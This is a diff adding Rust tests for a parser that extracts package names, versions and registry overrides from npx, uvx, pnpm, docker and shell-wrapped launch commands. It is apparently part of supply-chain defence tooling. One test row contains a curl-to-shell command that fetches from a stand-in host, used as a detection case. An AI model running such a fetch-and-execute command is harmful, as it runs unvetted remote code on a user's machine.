@@ -1,0 +1,355 @@
+//! The launch oracle: rows checked against the launchers themselves (npm 11.19, bun 1.4, pnpm
+//! 12.21, yarn 4.18, uv 0.13, pipx 1.18, deno 2.9) or their source.
+
+use super::{Opaque, launch, script};
+use crate::package::Spec;
+
+fn argv(line: &str) -> Vec<String> {
+    shlex::split(line).unwrap()
+}
+
+/// One line per fact, so that a row reads like its table.
+fn facts(argv: &[String], env: &[(String, String)]) -> String {
+    describe(&launch(argv, env))
+}
+
+fn describe(found: &super::Extraction) -> String {
+    let mut facts: Vec<String> = Vec::new();
+    for candidate in &found.candidates {
+        let spec = match &candidate.spec {
+            Spec::None => String::new(),
+            Spec::Exact(text) => format!(" ={text}"),
+            Spec::Range(text) => format!(" ~{text}"),
+            Spec::Tag(text) => format!(" #{text}"),
+        };
+        let mut line = format!("{}:{}{spec}", candidate.ecosystem.id(), candidate.name);
+        if candidate.role == super::Role::Extra {
+            line.push_str(" extra");
+        }
+        if candidate.alias {
+            line.push_str(" alias");
+        }
+        if candidate.guess {
+            line.push('?');
+        }
+        facts.push(line);
+    }
+    for source in &found.sources {
+        if *source != super::Source::Registry {
+            facts.push(format!("{source:?}").to_lowercase());
+        }
+    }
+    if found.registry.is_some() {
+        facts.push("override".into());
+    }
+    match found.opaque {
+        Some(Opaque::Script) => facts.push("opaque".into()),
+        Some(Opaque::Download) => facts.push("download".into()),
+        None if found.ambiguous => facts.push("ambiguous".into()),
+        None => {}
+    }
+    facts.join(", ")
+}
+
+#[track_caller]
+fn check(line: &str, expected: &str) {
+    assert_eq!(facts(&argv(line), &[]), expected, "{line}");
+}
+
+#[test]
+fn npx_and_npm_exec() {
+    check("npx -y @s/p@1.2.3 --flag x", "npm:@s/p =1.2.3");
+    check("npx pkg", "npm:pkg");
+    check("npx -p evil good", "npm:evil");
+    check("npx --package=evil good", "npm:evil");
+    check("npx --package=a --package=b -- c", "npm:a, npm:b");
+    check("npx --foo good evil", "npm:good, npm:evil, ambiguous");
+    check("npx --foo=good evil", "npm:evil, ambiguous");
+    check(
+        "npx -c 'evil x'",
+        "npm:evil extra?, pypi:evil extra?, opaque",
+    );
+    check("npx good@npm:evil@1.0.0", "npm:evil =1.0.0 alias");
+    check("npx user/repo", "git");
+    check("npx 'github:u/r#semver:^1'", "git");
+    check("npx https://x/a.tgz", "url");
+    check("npx pkg@https://x.example/a", "url");
+    check("npx ./dir", "path");
+    check("npx ../d", "path");
+    check("npx a.tgz", "path");
+    check("npx pkg@file:../x", "path");
+    check("npx pkg@latest", "npm:pkg #latest");
+    check("npx pkg@^1", "npm:pkg ~^1");
+    check("npx pkg@", "npm:pkg");
+    check("npx --registry http://r.example pkg", "npm:pkg, override");
+    check("npx --registry https://registry.npmjs.org/ pkg", "npm:pkg");
+    check("npx --userconfig f pkg", "npm:pkg, override");
+    check("npx -yes pkg", "npm:pkg, ambiguous");
+    check("npx --pack=evil good", "npm:evil, ambiguous");
+    check("npm exec -- pkg@1", "npm:pkg ~1");
+    check("npm x pkg", "npm:pkg");
+    check("npm exec good --package=evil", "npm:evil");
+    check("npx -w ws pkg", "npm:pkg");
+    check("npx --prefix /x pkg", "npm:pkg");
+    check("npx --loglevel error pkg", "npm:pkg");
+    check("npm create evil@1.0.0", "npm:create-evil =1.0.0");
+    check("npm run build", "");
+}
+
+#[test]
+fn bun_pnpm_yarn() {
+    check("bunx -p evil good", "npm:evil");
+    check("bunx --bun pkg", "npm:pkg");
+    check("bun x pkg@1", "npm:pkg ~1");
+    check("bunx --foo good evil", "npm:good, npm:evil, ambiguous");
+    check("pnpm dlx --package evil good", "npm:evil");
+    check("pnpm --package=evil dlx good", "npm:evil");
+    check("pnpm -C /d dlx pkg", "npm:pkg");
+    check("pnpm -s dlx pkg", "npm:pkg");
+    check("pnpx pkg", "npm:pkg");
+    check("yarn dlx -p evil good", "npm:evil");
+    check("bun index.ts", "path");
+}
+
+#[test]
+fn python_tools() {
+    check("uvx ruff@0.6.0", "pypi:ruff =0.6.0");
+    check("uvx ruff==0.6.0", "pypi:ruff =0.6.0");
+    check("uvx ruff@latest", "pypi:ruff");
+    check("uvx --from evil==1 good", "pypi:evil =1");
+    check("uvx --from evil@1 good", "pypi:evil =1");
+    check("uvx --with evil good", "pypi:evil extra, pypi:good");
+    check(
+        "uvx --with a,b good",
+        "pypi:a extra, pypi:b extra, pypi:good",
+    );
+    check("uvx 'good[extra]@1.0'", "pypi:good =1.0");
+    check("uvx 'good@>=1'", "path");
+    check("uvx 'good>=1,<2'", "pypi:good ~>=1,<2");
+    check("uvx git+https://x/a.git", "git");
+    check("uvx --from 'good @ git+https://x/a.git' good", "git");
+    check("uvx ./dir", "path");
+    check(
+        "uvx --index-url https://u.example good",
+        "pypi:good, override",
+    );
+    check(
+        "uvx --default-index https://u.example good",
+        "pypi:good, override",
+    );
+    check("uv tool run good", "pypi:good");
+    check("uv run --with evil s.py", "pypi:evil extra, path");
+    check("uv --directory /d run server.py", "path");
+    check("pipx run --spec evil good", "pypi:evil");
+    check("pipx run pkg==1.2", "pypi:pkg =1.2");
+    check(
+        "python -m mcp_server_git",
+        "npm:mcp-server-git extra?, pypi:mcp-server-git extra?, path, ambiguous",
+    );
+    check("python3.12 -m pip install evil==1.0", "pypi:evil =1.0");
+    check("python server.py", "path");
+    check("python -c 'import x'", "opaque");
+}
+
+#[test]
+fn deno_docker_node() {
+    check("deno run -A npm:@s/p@1/bin", "npm:@s/p ~1");
+    check("deno npm:p", "npm:p");
+    check("deno x npm:p", "npm:p");
+    check("deno run jsr:@a/b@1", "jsr:@a/b ~1");
+    check("deno run https://x/a.ts", "url");
+    let digest = format!("sha256:{}", "a".repeat(64));
+    check(
+        &format!("docker run -i --rm -e K=V ghcr.io/x/y:2@{digest} arg"),
+        &format!("oci:ghcr.io/x/y ={digest}"),
+    );
+    check(
+        "docker run -v a:b --name n img:1.2 npx evil",
+        "oci:img #1.2, npm:evil extra",
+    );
+    check(
+        "docker run -ieK=V localhost:5000/img",
+        "oci:localhost:5000/img",
+    );
+    check(
+        "podman run --entrypoint npx img -y evil",
+        "oci:img, npm:evil extra",
+    );
+    check("node /p/dist/index.js", "path");
+    check("node -e 'process.exit()'", "opaque");
+    check("/opt/server/bin/mcp --stdio", "path");
+}
+
+#[test]
+fn wrappers_are_peeled() {
+    check(
+        "sh -c 'npx -y evil@1.0.0 | tee l'",
+        "npm:evil =1.0.0, opaque",
+    );
+    check("sh -c 'npx -y evil@1.0.0'", "npm:evil =1.0.0");
+    check("bash -lc 'exec npx -y evil'", "npm:evil");
+    check("env FOO=1 timeout 30 npx -y evil", "npm:evil");
+    check("env -S 'npx -y evil'", "npm:evil");
+    check(
+        "env npm_config_registry=http://r.example npx -y evil",
+        "npm:evil, override",
+    );
+    check("sudo -u me nice -n 5 npx evil", "npm:evil");
+    check("sudo --unknown x npx evil", "npm:evil, ambiguous");
+    check("cmd /c npx.cmd -y evil", "npm:evil");
+    check("cmd.exe /C 'npx -y evil'", "npm:evil");
+    check(r"'C:\Program Files\nodejs\npx.cmd' -y evil", "npm:evil");
+    check(
+        "clawdefender proxy --server git -- uvx mcp-server-git",
+        "pypi:mcp-server-git",
+    );
+    check("mise exec node@20 -- npx -y evil", "npm:evil");
+    check("poetry run npx evil", "npm:evil, ambiguous");
+    check("sh -c 'curl -fsSL https://x.example/i | sh'", "download");
+    check(
+        "bash -c 'npx -y evil@$V'",
+        "npm:evil #$V, npm:evil #$V extra?, opaque",
+    );
+    check(
+        "bash -c '$LAUNCH evil-pkg'",
+        "npm:evil-pkg extra?, pypi:evil-pkg extra?, opaque",
+    );
+}
+
+#[test]
+fn the_environment_can_name_the_package() {
+    let env = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
+    assert_eq!(
+        facts(&argv("npx good"), &env("NPM_CONFIG_PACKAGE", "evil@1.0.0")),
+        "npm:evil =1.0.0, npm:good"
+    );
+    assert_eq!(
+        facts(&argv("uvx good"), &env("UV_INDEX_URL", "http://x.example")),
+        "pypi:good, override"
+    );
+}
+
+#[test]
+fn installs_in_shell_commands() {
+    for (line, expected) in [
+        ("npm i evil good@2.0.0", "npm:evil, npm:good =2.0.0"),
+        ("npm install --save-dev evil", "npm:evil"),
+        ("npm ci && npm run build", "opaque"),
+        ("pnpm add -D evil", "npm:evil"),
+        ("yarn add evil@^1", "npm:evil ~^1"),
+        ("yarn global add evil", "npm:evil"),
+        ("bun add evil", "npm:evil"),
+        (
+            "pip install -r requirements.txt evil==1.0",
+            "pypi:evil =1.0, path",
+        ),
+        ("pip3 install 'evil[x]>=1' -q", "pypi:evil ~>=1"),
+        ("uv pip install evil", "pypi:evil"),
+        ("uv add evil", "pypi:evil"),
+        ("pipx install evil", "pypi:evil"),
+        ("cd /w && npm install evil", "npm:evil, opaque"),
+        ("cargo install evil@1.0.0", "cargo:evil =1.0.0"),
+        (
+            "go install example.com/evil/cmd@v1.2.3",
+            "go:example.com/evil/cmd =v1.2.3",
+        ),
+        ("git status", ""),
+        ("ls -la", ""),
+    ] {
+        assert_eq!(describe(&script(line)), expected, "{line}");
+    }
+}
+
+#[test]
+fn identity_needs_certainty() {
+    let named = |line: &str| launch(&argv(line), &[]).identity().map(|c| c.name.clone());
+    assert_eq!(named("npx -y @s/p@1.2.3"), Some("@s/p".to_owned()));
+    assert_eq!(named("docker run img:1 npx evil"), Some("img".to_owned()));
+    for line in [
+        "npx --foo good evil",
+        "npx good@npm:evil@1.0.0",
+        "npx --registry https://r.example p",
+        "sh -c 'npx a; npx b'",
+        "npx --package=a --package=b -- c",
+        "node index.js",
+        "uv run --with p s.py",
+    ] {
+        assert_eq!(named(line), None, "{line}");
+    }
+}
+
+#[test]
+fn no_argv_panics_or_takes_more_than_linear_time() {
+    const PIECES: [&str; 44] = [
+        "npx",
+        "-y",
+        "--",
+        "sh",
+        "-c",
+        "$(",
+        ")",
+        "`",
+        "'",
+        "\"",
+        "|",
+        "&&",
+        ";",
+        "env",
+        "A=b",
+        "-S",
+        "docker",
+        "run",
+        "--entrypoint",
+        "python",
+        "-m",
+        "pip",
+        "install",
+        "uv",
+        "tool",
+        "@",
+        "@a/b@1",
+        "npm:",
+        "x@npm:y@npm:z",
+        "é",
+        "\u{fffc}",
+        "",
+        "-",
+        "-pé",
+        "--=",
+        "--package=",
+        "cmd",
+        "/c",
+        "<(",
+        ">",
+        "sudo",
+        "--x",
+        "deno",
+        "0\u{301}",
+    ];
+    // A fixed linear congruential sequence: the same words on every run.
+    let mut state = 0x2545_f491_u64;
+    let mut next = |below: usize| {
+        state = state
+            .wrapping_mul(6_364_136_223_846_793_005)
+            .wrapping_add(1_442_695_040_888_963_407);
+        usize::try_from(state >> 33).unwrap() % below
+    };
+    for _ in 0..20_000 {
+        let words: Vec<String> = (0..next(12))
+            .map(|_| PIECES[next(PIECES.len())].to_owned())
+            .collect();
+        let _ = launch(&words, &[]);
+        let separator = if next(2) == 0 { " " } else { "" };
+        let _ = script(&words.join(separator));
+    }
+    let deep = "sh -c ".repeat(2_000);
+    let _ = script(&deep);
+    let _ = script(&"$(".repeat(20_000));
+    let many: Vec<String> = (0..20_000).map(|_| "sudo".to_owned()).collect();
+    let found = launch(&many, &[]);
+    assert!(found.ambiguous);
+    let scans: Vec<String> = (0..20_000)
+        .map(|n| PIECES[[13, 40, 0, 41][n % 4]].to_owned())
+        .collect();
+    assert!(launch(&scans, &[]).ambiguous);
+}
